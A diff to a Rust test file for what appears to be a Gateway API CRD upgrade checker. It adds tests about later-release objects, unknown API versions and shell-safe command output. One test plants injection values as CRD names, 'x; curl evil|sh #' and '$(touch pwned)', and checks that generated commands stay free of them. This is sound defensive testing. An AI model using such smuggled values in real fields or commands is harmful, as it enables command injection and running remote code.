@@ -314,10 +314,127 @@ fn an_object_that_the_new_crd_refuses_is_named_with_its_field() {
         finding.path.starts_with("spec.rules[0].matches[0].path"),
         "{finding:?}"
     );
+    assert!(report.steps.iter().any(|step| {
+        step.title
+            .starts_with("Correct the objects that the new CRDs")
+    }));
+}
+
+/// Of releases that are not known nothing is said, and those that are known to be later are called later: nobody is
+/// told to go back.
+#[test]
+fn objects_of_a_later_release_are_called_later_and_nobody_is_told_to_go_back() {
+    for (version, kind, since) in [
+        ("v1", "TLSRoute", "v1.5.0"),
+        ("v1", "ReferenceGrant", "v1.5.0"),
+        ("v1", "ListenerSet", "v1.5.0"),
+        ("v1", "BackendTLSPolicy", "v1.4.0"),
+    ] {
+        for channel in Channel::ALL {
+            let report = check([&object(version, kind, json!({}))], channel);
+            let finding = only(&report, "later-release-object");
+            assert!(finding.message.contains(since), "{finding:?}");
+            let breaks = |f: &&UpgradeFinding| f.impact != Impact::Note;
+            assert_eq!(report.findings.iter().filter(breaks).count(), 1);
+            assert!(commands(&report).is_empty(), "{:#?}", report.steps);
+        }
+    }
+    let mut experiment = object("v1", "XListenerSet", json!({}));
+    experiment["apiVersion"] = "gateway.networking.x-k8s.io/v1alpha1".into();
+    let report = check([&experiment], Channel::Experimental);
     assert!(
-        report
-            .steps
-            .iter()
-            .any(|step| step.title.starts_with("Mend the objects that the new CRDs"))
+        only(&report, "later-release-object")
+            .message
+            .contains("v1.3.0")
     );
+}
+
+#[test]
+fn a_version_that_is_not_known_is_not_said_to_be_removed() {
+    let routes = [
+        object("v1alpha2", "HTTPRoute", json!({})),
+        object("v1beta2", "HTTPRoute", json!({})),
+        object("v1", "HTTPRout", json!({})),
+    ];
+    let report = check(&routes, Channel::Standard);
+    assert!(found(&report, "version-removed").is_empty());
+    let helps: Vec<_> = report
+        .findings
+        .iter()
+        .filter(|f| f.impact == Impact::Breaks)
+        .map(|f| (f.rule, f.help.as_str()))
+        .collect();
+    assert_eq!(
+        helps,
+        [
+            ("version-unknown", "write the object in `v1`"),
+            ("version-unknown", "write the object in `v1`"),
+            ("kind-unknown", "did you mean `HTTPRoute`?"),
+        ]
+    );
+}
+
+#[test]
+fn crds_of_a_later_release_are_not_replaced() {
+    let routes = crd(
+        "TLSRoute",
+        "tlsroutes",
+        &[("v1", true, true), ("v1alpha2", false, false)],
+        &["v1"],
+    );
+    for channel in Channel::ALL {
+        let report = check([&routes], channel);
+        if channel == Channel::Experimental {
+            let finding = only(&report, "later-release-stored");
+            assert_eq!(finding.impact, Impact::Blocks);
+            assert!(finding.message.contains("v1.5.0"), "{finding:?}");
+            assert!(commands(&report).is_empty(), "{:#?}", report.steps);
+        }
+        let text = format!("{report:?}");
+        assert!(text.contains("came with release v1.5.0"), "{text}");
+        assert!(!text.contains("delete the CRD"), "{text}");
+    }
+    let served = crd(
+        "ReferenceGrant",
+        "referencegrants",
+        &[("v1", true, false), ("v1beta1", true, true)],
+        &["v1beta1"],
+    );
+    let report = check([&served], Channel::Standard);
+    assert_eq!(only(&report, "later-release-served").impact, Impact::Breaks);
+    assert!(commands(&report).is_empty());
+    let sets = crd(
+        "ListenerSet",
+        "listenersets",
+        &[("v1", true, true)],
+        &["v1"],
+    );
+    let report = check([&sets], Channel::Standard);
+    let note = only(&report, "kind-not-in-channel");
+    assert!(
+        note.message.contains("came with release v1.5.0"),
+        "{note:?}"
+    );
+    assert!(report.is_clean());
+}
+
+/// Commands are for a shell: what a CRD calls itself must not be obeyed there.
+#[test]
+fn names_of_the_input_are_not_obeyed_by_a_shell() {
+    let mut policies = policies();
+    policies["spec"]["names"]["plural"] = "x; curl evil|sh #".into();
+    let mut odd = crd("Odd", "$(touch pwned)", &[("v1", true, true)], &["v1"]);
+    odd["metadata"]["name"] = "$(touch pwned).gateway.networking.k8s.io".into();
+    let report = check([&policies, &odd], Channel::Experimental);
+    let commands = commands(&report);
+    assert!(
+        commands
+            .iter()
+            .any(|c| c.contains("backendtlspolicies.gateway.networking.k8s.io")),
+        "{commands:#?}"
+    );
+    for command in commands {
+        assert!(!command.contains(['$', ';', '`']), "{command}");
+        assert!(!command.contains("|sh"), "{command}");
+    }
 }
